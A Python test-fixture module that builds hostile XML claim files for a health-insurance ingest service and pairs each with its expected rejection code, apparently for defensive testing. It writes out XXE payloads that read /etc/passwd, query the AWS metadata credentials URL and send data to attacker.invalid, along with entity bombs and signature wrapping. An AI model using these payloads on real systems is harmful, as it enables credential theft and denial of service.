"""The hostile-input corpus (issue 7): files that are bad in one way each, and what their receipt must say.

Every case starts from a valid claim made by the project's own generator and signer (``build_visit``,
``envelope``, ``sign_submission``) and breaks exactly one thing, so the code its receipt carries is the
answer to that one thing. Pure: bytes, object keys and expectations; no AWS. ``tests/test_hostile_corpus.py``
runs the corpus through the ingest handler on moto, ``tests/e2e/test_hostile_corpus_e2e.py`` through the deployed
stack, and ``docs/hostile-inputs.md`` explains every case.

DEVELOPMENT ONLY: the certificates come from ``healthbook_dev.pki.dev_pki``.
"""

from __future__ import annotations

import base64
import dataclasses
import gzip
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from healthbook.ingest.model import ACCEPTED, PARTIAL, REJECTED, locate
from healthbook.kernel import MAX_FILE_BYTES, MAX_VISITS_PER_FILE
from healthbook.signing.xml_signer import sign_submission
from healthbook.signing.xmldsig import DS, PrivateKey
from lxml import etree
from signxml.algorithms import CanonicalizationMethod, DigestAlgorithm, SignatureConstructionMethod, SignatureMethod
from signxml.signer import XMLSigner

from healthbook_dev.generate.visit import Visit, build_visit
from healthbook_dev.generate.writer import envelope, table_document
from healthbook_dev.pki import FACILITIES

__all__ = ["CATEGORIES", "HostileCase", "Registration", "hostile_corpus", "registrations"]

# The issue's own words, one per family of cases.
CATEGORIES = (
    "malformed XML", "truncated XML", "XXE and entity bombs", "base64 bombs and oversized files", "wrong encodings",
    "empty files", "another facility's prefix", "signatures", "replays", "counts that do not match",
)
SECRET_FILE = "file:///etc/passwd"  # what an XXE would try to read; its content must never reach a receipt
METADATA_URL = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"  # the SSRF target on AWS


@dataclass(frozen=True)
class HostileCase:
    name: str  # stable slug, unique in the corpus
    kind: str  # what is wrong, in one slug; several cases may share a kind
    category: str  # one of CATEGORIES
    description: str
    key: str  # the S3 key it is uploaded under
    body: bytes = field(repr=False)
    expected_codes: frozenset[str]  # what rejects the file or keeps its visit out (empty: accepted)
    expect_receipt_at: str  # the receipts-bucket key the ingest writes
    expect_status: str = REJECTED  # the submission's status: REJECTED; PARTIAL or ACCEPTED where noted
    # Objects to ingest (and see accepted) before this one: the original of a replay.
    before: tuple[tuple[str, bytes], ...] = field(default=(), repr=False)
    # The personal data inside ``body`` (name, ID number, card): never in a log, never unmasked in a receipt.
    personal: tuple[str, ...] = field(default=(), repr=False)
    # Findings the receipt reports without blocking anything: a harmless shape, admitted (docs/conformance.md).
    expected_findings: frozenset[str] = frozenset()

    def renamed(self, prefix: str) -> HostileCase:
        """The same case under file names starting with ``prefix`` (a fresh name per run on a shared stack)."""

        def rename(key: str) -> str:
            folder, _, name = key.rpartition("/")
            return f"{folder}/{prefix}{name}" if folder else f"{prefix}{name}"

        key = rename(self.key)
        return dataclasses.replace(self, key=key, expect_receipt_at=locate(key).receipt_key,
                                   before=tuple((rename(k), body) for k, body in self.before))


@dataclass(frozen=True)
class Registration:
    """What the facility registry (the ``facilities`` table) must hold for the signature cases to mean what
    they say: a certificate registered for a facility and, for the revoked one, its revocation."""

    facility: str
    name: str
    province: str
    certificate: x509.Certificate
    revoked_at: datetime | None = None


def registrations(pki: Mapping[str, Path], *, facility: str = "01001") -> tuple[Registration, ...]:
    """The facility's own certificate, another facility's (for K411) and the revoked one (K409).

    Only the registry's deny-list revokes in the deployed function (it is given no CRL), so the revoked
    certificate must be recorded there; it counts as revoked from its first valid moment.
    """
    other = _other_facility(facility)
    revoked = _certificate(pki, "revoked")
    return (Registration(facility, *FACILITIES[facility], _certificate(pki, facility)),
            Registration(other, *FACILITIES[other], _certificate(pki, other)),
            Registration("79001", *FACILITIES["79001"], revoked, revoked_at=revoked.not_valid_before_utc))


# --- material ---------------------------------------------------------------------------------------------

def _other_facility(facility: str) -> str:
    return "79001" if facility != "79001" else "01001"


def _certificate(pki: Mapping[str, Path], stem: str) -> x509.Certificate:
    return x509.load_pem_x509_certificates(pki[stem].read_bytes())[0]


Material = tuple[PrivateKey, x509.Certificate, list[x509.Certificate]]


def _material(pki: Mapping[str, Path], stem: str) -> Material:
    key = serialization.load_pem_private_key(pki[f"{stem}-key"].read_bytes(), password=None)
    if not isinstance(key, PrivateKey):
        raise ValueError(f"{stem}-key is neither RSA nor ECDSA")
    cert, *chain = x509.load_pem_x509_certificates(pki[stem].read_bytes())
    return key, cert, chain


class _LegacySigner(XMLSigner):
    """What old HIS software still sends: signxml refuses SHA-1 unless told otherwise."""

    def check_deprecated_methods(self) -> None:
        pass


def _sign_sha1(material: Material, data: bytes, *, sha1_signature: bool) -> bytes:
    """Signed as sign_submission does (inside CHUKYDONVI) but with a SHA-1 digest and, if ``sha1_signature``,
    rsa-sha1 or ecdsa-sha1 as the signature method too."""
    key, cert, chain = material
    if isinstance(key, rsa.RSAPrivateKey):
        method = SignatureMethod.RSA_SHA1 if sha1_signature else SignatureMethod.RSA_SHA256
    else:
        method = SignatureMethod.ECDSA_SHA1 if sha1_signature else SignatureMethod.ECDSA_SHA256
    root = etree.fromstring(data)
    holder = root.find("CHUKYDONVI")
    if holder is None:
        raise ValueError("no CHUKYDONVI to sign into")
    etree.SubElement(holder, f"{{{DS}}}Signature", {"Id": "placeholder"}, nsmap={"ds": DS})
    signer = _LegacySigner(method=SignatureConstructionMethod.enveloped, signature_algorithm=method,
                           digest_algorithm=DigestAlgorithm.SHA1,
                           c14n_algorithm=CanonicalizationMethod.CANONICAL_XML_1_0)
    signed = signer.sign(root, key=key, cert=[cert, *chain])
    return bytes(etree.tostring(signed, xml_declaration=True, encoding="UTF-8"))


def _edit(data: bytes, change: Callable[[etree._Element], None]) -> bytes:
    root = etree.fromstring(data, parser=etree.XMLParser(huge_tree=True))  # our own bytes: a plain parser
    change(root)
    return bytes(etree.tostring(root, xml_declaration=True, encoding="UTF-8"))


def _once(data: bytes, old: bytes, new: bytes) -> bytes:
    """Replace the one occurrence of ``old``; a corpus built on a wrong assumption must fail loudly."""
    if data.count(old) != 1:
        raise ValueError(f"expected exactly one {old[:40]!r} in the base file, found {data.count(old)}")
    return data.replace(old, new)


def _find(root: etree._Element, path: str) -> etree._Element:
    found = root.find(path, {"ds": DS})
    if found is None:
        raise ValueError(f"no {path} in the base file")
    return found


def _b64(data: bytes) -> bytes:
    return base64.b64encode(data)


def _billion_laughs(root: str) -> str:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    return f"<!DOCTYPE {root} [{entities}]>"


# --- the corpus -------------------------------------------------------------------------------------------

def hostile_corpus(pki: Mapping[str, Path], *, facility: str = "01001", seed: int = 0,
                   max_object_bytes: int = MAX_FILE_BYTES) -> list[HostileCase]:
    """Every case, for uploads by ``facility`` (a facility of ``dev_pki`` with a good certificate: 01001, 79001
    or 48001). ``max_object_bytes`` is the ingest function's MAX_OBJECT_BYTES: the oversized case is one byte
    more. Deterministic for a given PKI and seed (only the PKI's keys and certificates vary between PKIs)."""
    if facility not in ("01001", "79001", "48001"):
        raise ValueError(f"dev_pki has no good certificate for {facility}")
    rng = random.Random(seed)
    other = _other_facility(facility)
    visit = build_visit(rng, scenario="outpatient", facility=(facility, *FACILITIES[facility]))
    foreign = build_visit(rng, scenario="outpatient", facility=(other, *FACILITIES[other]))
    # Two more visits, made to share one MA_LK (duplicate-ma-lk stores one of them: not the base visit, whose
    # stored history is the replay's).
    first, clash = (build_visit(rng, scenario="outpatient", facility=(facility, *FACILITIES[facility]))
                    for _ in range(2))
    clash.tables = {table: [{**row, "MA_LK": first.ma_lk} for row in rows] for table, rows in clash.tables.items()}
    clash.ma_lk = first.ma_lk
    created = datetime.strptime(visit.tables["XML1"][0]["NGAY_RA"], "%Y%m%d%H%M")  # filed on discharge

    def person(of: Visit) -> tuple[str, ...]:
        row = of.tables["XML1"][0]
        return row["HO_TEN"], row["SO_CCCD"], row["MA_THE_BHYT"]

    def claim(*, count: int | None = None, documents: dict[tuple[str, str], bytes] | None = None) -> bytes:
        return envelope([visit], created=created, count=count, documents=documents)

    loaded: dict[str, Material] = {}

    def material(stem: str) -> Material:
        if stem not in loaded:  # loading an RSA key checks it, which costs more than signing with it
            loaded[stem] = _material(pki, stem)
        return loaded[stem]

    def signed_as(data: bytes, stem: str = facility) -> bytes:
        key, cert, chain = material(stem)
        return sign_submission(data, key, cert, chain=chain)

    unsigned = claim()
    signed = signed_as(unsigned)
    ngaylap = f"<NGAYLAP>{created:%Y%m%d}</NGAYLAP>".encode()
    macskcb = f"<MACSKCB>{facility}</MACSKCB>".encode()
    personal = person(visit)

    def payload(table: str, document: bytes) -> dict[tuple[str, str], bytes]:
        return {(visit.ma_lk, table): _b64(document)}

    def xml1_with(**values: str) -> bytes:
        changed = Visit(visit.ma_lk, visit.facility, visit.scenario, visit.standard,
                        {**visit.tables, "XML1": [{**visit.tables["XML1"][0], **values}]})
        return table_document(changed, "XML1")

    cases: list[HostileCase] = []

    def add(name: str, kind: str, category: str, description: str, body: bytes, codes: str, *,
            key: str | None = None, status: str = REJECTED, before: tuple[tuple[str, bytes], ...] = (),
            carries: tuple[str, ...] = personal, findings: str = "") -> None:
        key = key or f"inbox/{facility}/hostile-{name}.xml"
        cases.append(HostileCase(name=name, kind=kind, category=category, description=description, key=key,
                                 body=body, expected_codes=frozenset(codes.split()),
                                 expect_receipt_at=locate(key).receipt_key, expect_status=status, before=before,
                                 personal=carries, expected_findings=frozenset(findings.split())))

    # --- malformed XML ------------------------------------------------------------------------------------
    malformed = CATEGORIES[0]
    add("not-xml", "not-xml", malformed, "Plain text, no markup at all.",
        "Đây không phải XML.\nThis is not XML either.\n".encode(), "E005", carries=())
    add("gzip-of-claim", "binary", malformed, "The signed claim gzip-compressed: binary, not XML.",
        gzip.compress(signed, mtime=0), "E003")
    add("mismatched-tags", "mismatched-tags", malformed,
        "An end tag that does not match its start tag (</THONGTINDONVIX>).",
        _once(signed, b"</THONGTINDONVI>", b"</THONGTINDONVIX>"), "E005")
    add("undefined-entity", "undefined-entity", malformed,
        "A reference to an entity that was never declared (&nbsp;) in MACSKCB.",
        _once(signed, macskcb, f"<MACSKCB>{facility}&nbsp;</MACSKCB>".encode()), "E005")
    add("illegal-character", "illegal-character", malformed,
        "A character reference to U+0001, which XML 1.0 forbids.",
        _once(signed, ngaylap, ngaylap.replace(b"</", b"&#1;</")), "E005")
    add("second-root", "content-after-root", malformed,
        "A second root element after the signed envelope.", signed + b"\n<GIAMDINHHS/>\n", "E005")
    add("wrong-root", "wrong-root", malformed,
        "A well-formed document whose root is HOSO, not GIAMDINHHS.",
        b"<?xml version='1.0' encoding='utf-8'?>\n<HOSO><FILEHOSO><LOAIHOSO>XML1</LOAIHOSO><NOIDUNGFILE>"
        + _b64(table_document(visit, "XML1")) + b"</NOIDUNGFILE></FILEHOSO></HOSO>", "E006")

    def without_list(root: etree._Element) -> None:
        hoso_list = _find(root, "THONGTINHOSO/DANHSACHHOSO")
        _find(root, "THONGTINHOSO").remove(hoso_list)

    add("envelope-part-missing", "envelope-part-missing", malformed,
        "A signed envelope without DANHSACHHOSO (the list of visits).",
        signed_as(_edit(unsigned, without_list)), "E007 E010", carries=())
    depth = 100_000
    add("nesting-depth-bomb", "depth-bomb", malformed,
        f"{depth:,} nested elements inside the envelope (a parser that recurses overflows its stack).",
        b"<GIAMDINHHS>" + b"<a>" * depth + b"</a>" * depth + b"</GIAMDINHHS>", "E005", carries=())

    # --- truncated XML ------------------------------------------------------------------------------------
    truncated = CATEGORIES[1]
    add("truncated-half", "truncated", truncated, "The signed file cut in the middle (an interrupted upload).",
        signed[: len(signed) // 2], "E005")
    add("truncated-last-byte", "truncated", truncated, "The signed file without its last '>'.",
        signed.rstrip()[:-1], "E005")
    add("truncated-payload", "truncated-payload", truncated,
        "XML1 inside NOIDUNGFILE cut in half before base64-encoding; the envelope itself is whole and signed.",
        signed_as(claim(documents=payload("XML1", table_document(visit, "XML1")[:600]))), "E005")

    # --- XXE and entity bombs -----------------------------------------------------------------------------
    xxe = CATEGORIES[2]
    body = signed.split(b"?>", 1)[1]  # without the XML declaration, so a DOCTYPE can lead
    add("xxe-local-file", "xxe-external-entity", xxe,
        f"A DOCTYPE declaring an external entity ({SECRET_FILE}) used as MACSKCB.",
        f'<!DOCTYPE GIAMDINHHS [<!ENTITY xxe SYSTEM "{SECRET_FILE}">]>'.encode()
        + _once(body, macskcb, b"<MACSKCB>&xxe;</MACSKCB>"), "E004")
    add("xxe-ssrf-metadata", "xxe-external-dtd", xxe,
        "An external DTD on the instance-metadata address (server-side request forgery).",
        f'<!DOCTYPE GIAMDINHHS SYSTEM "{METADATA_URL}">'.encode() + body, "E004")
    add("xxe-parameter-entity", "xxe-parameter-entity", xxe,
        "Parameter entities that would read a local file and send it out in a URL (blind XXE).",
        (f'<!DOCTYPE GIAMDINHHS [<!ENTITY % file SYSTEM "{SECRET_FILE}">'
         "<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://attacker.invalid/?%file;'>\">%eval;%leak;]>"
         ).encode() + body, "E004")
    add("billion-laughs", "entity-expansion-bomb", xxe,
        "Nested internal entities expanding to 10^9 'lol's (3 GB) from 1 KB.",
        _billion_laughs("GIAMDINHHS").encode() + _once(body, macskcb, b"<MACSKCB>&lol9;</MACSKCB>"), "E004")
    add("quadratic-blowup", "quadratic-blowup", xxe,
        "One 50 KB entity referenced 20,000 times (1 GB expanded, no nesting to detect).",
        f'<!DOCTYPE GIAMDINHHS [<!ENTITY a "{"x" * 50_000}">]>'.encode()
        + _once(body, macskcb, b"<MACSKCB>" + b"&a;" * 20_000 + b"</MACSKCB>"), "E004")
    add("doctype-only", "doctype", xxe, "An otherwise valid signed file with a harmless-looking DOCTYPE.",
        b"<!DOCTYPE GIAMDINHHS>\n" + body, "E004")
    inner_xxe = (f'<!DOCTYPE TONG_HOP [<!ENTITY xxe SYSTEM "{SECRET_FILE}">]>'.encode()
                 + table_document(visit, "XML1").split(b"?>", 1)[1].replace(b"<STT>1</STT>", b"<STT>&xxe;</STT>", 1))
    add("xxe-in-payload", "xxe-in-payload", xxe,
        "The external entity hidden in XML1 inside NOIDUNGFILE, under a valid envelope signature.",
        signed_as(claim(documents=payload("XML1", inner_xxe))), "E004")
    add("billion-laughs-in-payload", "entity-bomb-in-payload", xxe,
        "The billion-laughs bomb as XML2 inside NOIDUNGFILE, under a valid envelope signature.",
        signed_as(claim(documents=payload("XML2", (
            _billion_laughs("CHITIEU_CHITIET_THUOC") + "<CHITIEU_CHITIET_THUOC>&lol9;</CHITIEU_CHITIET_THUOC>"
        ).encode()))), "E004")
    add("xinclude-payload", "xinclude", xxe,
        f"XML1 replaced by an XInclude of {SECRET_FILE} (never processed: it is just a wrong root).",
        signed_as(claim(documents=payload("XML1", (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{SECRET_FILE}" parse="text"/>'
        ).encode()))), "E006")
    add("stylesheet-pi", "processing-instruction", xxe,
        "An xml-stylesheet processing instruction (remote XSLT) slipped into the envelope after signing.",
        _once(signed, b"<THONGTINHOSO>",
              b'<?xml-stylesheet type="text/xsl" href="http://attacker.invalid/x.xsl"?><THONGTINHOSO>'), "K404")

    # --- base64 bombs and oversized files -----------------------------------------------------------------
    sizes = CATEGORIES[3]
    add("base64-invalid", "base64-invalid", sizes,
        "XML3's NOIDUNGFILE is not base64 ('!' and '*'): XML3 is left out, the visit admitted with the finding.",
        signed_as(claim(documents={(visit.ma_lk, "XML3"): b"PFRP*05HX0hPUD4=!!"})), "", status=ACCEPTED,
        findings="E012")
    zeros = 64 * 1024 * 1024
    bomb = _b64(gzip.compress(bytes(zeros), mtime=0))
    add("base64-gzip-bomb", "compression-bomb", sizes,
        f"XML2's payload is a gzip of {zeros // 2**20} MiB of zeros ({len(bomb) // 1000} KB of base64): anything "
        "that inflated it would blow up; it is not XML and is never inflated.",
        signed_as(claim(documents={(visit.ma_lk, "XML2"): bomb})), "E003")
    add("base64-nested", "double-base64", sizes, "XML1 base64-encoded twice: the decoded payload is not XML.",
        signed_as(claim(documents={(visit.ma_lk, "XML1"): _b64(_b64(table_document(visit, "XML1")))})), "E005")
    add("noidungfile-empty", "empty-payload", sizes, "XML1's NOIDUNGFILE is empty.",
        signed_as(claim(documents={(visit.ma_lk, "XML1"): b""})), "E016")
    add("oversized", "oversized", sizes,
        f"A valid signed file padded with whitespace to MAX_OBJECT_BYTES + 1 ({max_object_bytes + 1:,} bytes); "
        "refused from its size alone, never downloaded.",
        signed + b" " * (max_object_bytes + 1 - len(signed)), "E002")
    # As many one-line visits as fit under the size limit: the work per file is bounded by MAX_VISITS_PER_FILE,
    # counted before any visit is read (a 20 MB file of 1,000 real visits is the heaviest a receipt then costs).
    tiny = "<HOSO><FILEHOSO><LOAIHOSO>XML1</LOAIHOSO><NOIDUNGFILE>{}</NOIDUNGFILE></FILEHOSO></HOSO>\n"
    one = len(tiny.format(_b64(b"<TONG_HOP><MA_LK>F000000</MA_LK></TONG_HOP>").decode()))
    room = max_object_bytes - len(unsigned) - 16 * 1024  # the signature and its certificates: a few KB
    flood_hoso = [tiny.format(_b64(f"<TONG_HOP><MA_LK>F{n:06d}</MA_LK></TONG_HOP>".encode()).decode())
                  for n in range(room // one)]
    flood = _once(unsigned, b"<SOLUONGHOSO>1</SOLUONGHOSO>", f"<SOLUONGHOSO>{len(flood_hoso)}</SOLUONGHOSO>".encode())
    flood = _once(flood, b"<DANHSACHHOSO>", b"<DANHSACHHOSO>" + "".join(flood_hoso).encode())
    add("visit-flood", "too-many-visits", sizes,
        f"{len(flood_hoso):,} one-line HOSO in one signed envelope (MAX_VISITS_PER_FILE is {MAX_VISITS_PER_FILE:,}; "
        "real exports hold one): refused once the envelope is parsed, before any visit is read.",
        signed_as(flood), "E019")
    add("long-field-value", "long-text", sizes,
        "XML1.DIA_CHI of 100,000 characters (at most 1,024): a finding; the receipt shows a masked stub of it.",
        signed_as(claim(documents=payload("XML1", xml1_with(DIA_CHI="Số 1 phố Huế, " * 7_143)))), "",
        status=ACCEPTED, findings="V202")

    # --- wrong encodings ----------------------------------------------------------------------------------
    encodings = CATEGORIES[4]
    text = signed.decode("utf-8")
    add("utf16-bom", "utf-16", encodings, "The signed file re-encoded as UTF-16 with a byte-order mark.",
        text.encode("utf-16"), "E003")
    add("declared-latin1", "declared-encoding", encodings,
        "Declared ISO-8859-1 and written in it (Vietnamese letters it lacks become '?').",
        _once(text.encode("latin-1", "replace"), b"encoding='UTF-8'", b"encoding='ISO-8859-1'"), "E003")
    add("declared-windows-1258", "declared-encoding", encodings,
        "Declared windows-1258 (the Vietnamese Windows code page) and written in it.",
        _once(text.encode("cp1258", "replace"), b"encoding='UTF-8'", b"encoding='windows-1258'"), "E003")
    add("invalid-utf8", "invalid-utf8", encodings, "Bytes that are not UTF-8 (0xC3 0x28) inside NGAYLAP.",
        _once(signed, ngaylap, ngaylap.replace(b"</", b"\xc3\x28</")), "E003")
    add("utf8-encoded-surrogate", "invalid-utf8", encodings,
        "A UTF-16 surrogate encoded as UTF-8 (0xED 0xA0 0x80, 'CESU-8'), which UTF-8 forbids.",
        _once(signed, ngaylap, ngaylap.replace(b"</", b"\xed\xa0\x80</")), "E003")
    add("payload-utf16", "payload-encoding", encodings,
        "XML1 inside NOIDUNGFILE in UTF-16; the envelope is UTF-8 and signed.",
        signed_as(claim(documents=payload("XML1", table_document(visit, "XML1").decode("utf-8").encode("utf-16")))),
        "E003")

    # --- empty files --------------------------------------------------------------------------------------
    empty = CATEGORIES[5]
    add("empty", "empty", empty, "Zero bytes.", b"", "E001", carries=())
    add("whitespace-only", "whitespace-only", empty, "Spaces, tabs and newlines only.", b" \t\r\n" * 64, "E001",
        carries=())
    add("bom-only", "bom-only", empty, "A UTF-8 byte-order mark and nothing else.", b"\xef\xbb\xbf", "E001",
        carries=())

    def no_hoso(root: etree._Element) -> None:
        for hoso in _find(root, "THONGTINHOSO/DANHSACHHOSO").findall("HOSO"):
            hoso.getparent().remove(hoso)  # type: ignore[union-attr]
        _find(root, "THONGTINHOSO/SOLUONGHOSO").text = "0"

    add("no-visits", "no-visits", empty, "A signed envelope whose DANHSACHHOSO holds no HOSO (SOLUONGHOSO 0).",
        signed_as(_edit(unsigned, no_hoso)), "E011", carries=())

    # --- another facility's prefix ------------------------------------------------------------------------
    # Only keys under inbox/: the inbox bucket notifies the ingest queue of nothing else (template.yaml), so a
    # key outside it would get no receipt at all from the deployed stack (docs/hostile-inputs.md).
    prefix = CATEGORIES[6]
    add("other-facility-prefix", "other-facility-prefix", prefix,
        f"This facility's valid signed file uploaded under {other}'s folder.", signed, "I501",
        key=f"inbox/{other}/hostile-other-facility-prefix.xml")
    add("foreign-file-in-own-folder", "foreign-file", prefix,
        f"{other}'s own valid signed file, replayed into this facility's folder.",
        signed_as(envelope([foreign], created=created), other), "I501",
        carries=person(foreign))
    add("inbox-root", "no-facility-folder", prefix, "A valid signed file directly in inbox/, in no facility folder.",
        signed, "I502", key="inbox/hostile-inbox-root.xml")
    add("four-digit-folder", "malformed-facility-folder", prefix,
        "A valid signed file under inbox/1001/ (four digits: not a MACSKCB).", signed, "I502",
        key="inbox/1001/hostile-four-digit-folder.xml")
    lookalike = facility.translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
    add("lookalike-digits-folder", "lookalike-facility-folder", prefix,
        f"A valid signed file under inbox/{lookalike}/: the facility code in Arabic-Indic digits.", signed, "I502",
        key=f"inbox/{lookalike}/hostile-lookalike-digits-folder.xml")

    # --- signatures ---------------------------------------------------------------------------------------
    signatures = CATEGORIES[7]
    add("unsigned", "unsigned", signatures, "A valid claim with an empty CHUKYDONVI.", unsigned, "K401")
    add("tampered-envelope", "tampered", signatures, "NGAYLAP changed by one day after signing.",
        _once(signed, ngaylap, f"<NGAYLAP>{created - timedelta(days=1):%Y%m%d}</NGAYLAP>".encode()), "K404")
    xml1 = _b64(table_document(visit, "XML1"))
    add("tampered-payload", "tampered-payload", signatures,
        "XML1 replaced after signing by a copy with another reason for the visit (LY_DO_VV).",
        _once(signed, xml1, _b64(xml1_with(LY_DO_VV="Khám sức khỏe"))), "K404")

    def flip_signature_bit(root: etree._Element) -> None:
        value = _find(root, "CHUKYDONVI/ds:Signature/ds:SignatureValue")
        raw = bytearray(base64.b64decode(value.text or ""))
        raw[17] ^= 0x01
        value.text = base64.b64encode(bytes(raw)).decode("ascii")

    add("signature-value-altered", "bad-signature-value", signatures, "One bit of SignatureValue flipped.",
        _edit(signed, flip_signature_bit), "K403")
    add("sha1-digest", "weak-digest", signatures, "Signed with (rsa|ecdsa)-sha256 over a SHA-1 reference digest.",
        _sign_sha1(material(facility), unsigned, sha1_signature=False), "K406")
    add("sha1-signature", "weak-signature-method", signatures,
        "Signed with rsa-sha1 (ecdsa-sha1 for an EC key) and a SHA-1 digest.",
        _sign_sha1(material(facility), unsigned, sha1_signature=True), "K406")
    add("weak-rsa-1024", "weak-key", signatures, "Signed with an RSA key of 1024 bits (dev_pki's weak.pem).",
        signed_as(unsigned, "weak"), "K406")
    add("untrusted-ca", "untrusted-certificate", signatures,
        "Signed with a certificate from a CA that copies the real root's name but is not trusted (rogue.pem).",
        signed_as(unsigned, "rogue"), "K407")
    add("expired-certificate", "expired-certificate", signatures,
        "Signed with the facility's certificate that expired a year before receipt (expired.pem).",
        signed_as(unsigned, "expired"), "K408")
    add("revoked-certificate", "revoked-certificate", signatures,
        "Signed with a certificate the registry lists as revoked (revoked.pem).",
        signed_as(unsigned, "revoked"), "K409")
    add("unregistered-certificate", "unregistered-certificate", signatures,
        "Signed with a trusted certificate that no facility registered (unregistered.pem, issued to 01002).",
        signed_as(unsigned, "unregistered"), "K410")
    add("other-facility-certificate", "other-facility-certificate", signatures,
        f"This facility's claim signed with {other}'s valid, registered certificate.",
        signed_as(unsigned, other), "K411")

    def wrapped(root: etree._Element) -> None:
        # Signature wrapping: the signed original moves into the signature's ds:Object and the reference is
        # pointed at it, so the signature "still verifies" while the visible envelope says something else.
        signature = _find(root, "CHUKYDONVI/ds:Signature")
        original = etree.fromstring(etree.tostring(root))
        original.remove(_find(original, "CHUKYDONVI"))
        original.set("Id", "original")
        etree.SubElement(signature, f"{{{DS}}}Object").append(original)
        _find(signature, "ds:SignedInfo/ds:Reference").set("URI", "#original")
        _find(root, "THONGTINHOSO/NGAYLAP").text = "20200101"

    add("signature-wrapping", "signature-wrapping", signatures,
        "The signed original moved into ds:Object with the reference pointed at it (#original); the visible "
        "envelope is then changed.", _edit(signed, wrapped), "K405")

    def moved_signature(root: etree._Element) -> None:
        signature = _find(root, "CHUKYDONVI/ds:Signature")
        _find(root, "THONGTINDONVI").append(signature)

    add("signature-outside-chukydonvi", "misplaced-signature", signatures,
        "The signature moved from CHUKYDONVI into THONGTINDONVI.", _edit(signed, moved_signature), "K402")

    # --- replays ------------------------------------------------------------------------------------------
    add("replay-new-name", "replay", CATEGORIES[8],
        "An accepted file uploaded again, byte for byte, under a new name: refused as a replay of the original "
        "(same facility, same SHA-256), its visit not stored again.",
        signed, "I503", before=((f"inbox/{facility}/hostile-replay-original.xml", signed),))

    # --- counts that do not match -------------------------------------------------------------------------
    counts = CATEGORIES[9]
    add("soluonghoso-too-high", "count-mismatch", counts, "SOLUONGHOSO says 2; the file holds 1 HOSO.",
        signed_as(claim(count=2)), "E010")
    add("soluonghoso-not-a-number", "count-not-a-number", counts, "SOLUONGHOSO is 'một' (one, in words).",
        signed_as(_once(unsigned, b"<SOLUONGHOSO>1</SOLUONGHOSO>", "<SOLUONGHOSO>một</SOLUONGHOSO>".encode())),
        "E010")
    lines = [dict(row) for row in visit.tables["XML3"]]
    lines[-1]["MA_LK"] = visit.ma_lk + "X"
    mismatched = Visit(visit.ma_lk, visit.facility, visit.scenario, visit.standard, {**visit.tables, "XML3": lines})
    add("ma-lk-mismatch", "ma-lk-mismatch", counts, "One XML3 line names another visit's MA_LK.",
        signed_as(claim(documents=payload("XML3", table_document(mismatched, "XML3")))), "S104")
    add("duplicate-ma-lk", "duplicate-visit", counts,
        "Two different visits under one MA_LK in one file (SOLUONGHOSO 2): the first is accepted, the second "
        "refused, so the file is PARTIAL.",
        signed_as(envelope([first, clash], created=created)), "E017", status=PARTIAL,
        carries=person(first) + person(clash))
    total = visit.tables["XML1"][0]["T_TONGCHI_BV"]
    add("total-mismatch", "total-mismatch", counts,
        "XML1.T_TONGCHI_BV is 1,000 VND more than the sum of its lines in XML2 and XML3.",
        signed_as(claim(documents=payload("XML1", xml1_with(T_TONGCHI_BV=f"{float(total) + 1000:.2f}")))), "",
        status=ACCEPTED, findings="R309")

    def drop_table(table: str) -> Callable[[etree._Element], None]:
        def change(root: etree._Element) -> None:
            for item in root.iterfind("THONGTINHOSO/DANHSACHHOSO/HOSO/FILEHOSO"):
                if item.findtext("LOAIHOSO") == table:
                    item.getparent().remove(item)  # type: ignore[union-attr]
        return change

    add("xml1-missing", "summary-missing", counts, "The HOSO has its detail tables but no XML1.",
        signed_as(_edit(unsigned, drop_table("XML1"))), "E015")

    def duplicate_table(root: etree._Element) -> None:
        hoso = _find(root, "THONGTINHOSO/DANHSACHHOSO/HOSO")
        hoso.append(etree.fromstring(etree.tostring(hoso[-1])))

    add("loaihoso-duplicate", "duplicate-table", counts, "The last table of the HOSO sent twice (the first is read).",
        signed_as(_edit(unsigned, duplicate_table)), "", status=ACCEPTED, findings="E014")

    def unknown_table(root: etree._Element) -> None:
        _find(root, "THONGTINHOSO/DANHSACHHOSO/HOSO/FILEHOSO[last()]/LOAIHOSO").text = "XML99"

    add("loaihoso-unknown", "unknown-table", counts, "A table called XML99 (left out).",
        signed_as(_edit(unsigned, unknown_table)), "", status=ACCEPTED, findings="E013")
    add("facility-mismatch-inside", "facility-mismatch", counts,
        f"XML1.MA_CSKCB says {other} inside an envelope of {facility}.",
        signed_as(claim(documents=payload("XML1", xml1_with(MA_CSKCB=other)))), "R301")
    return cases
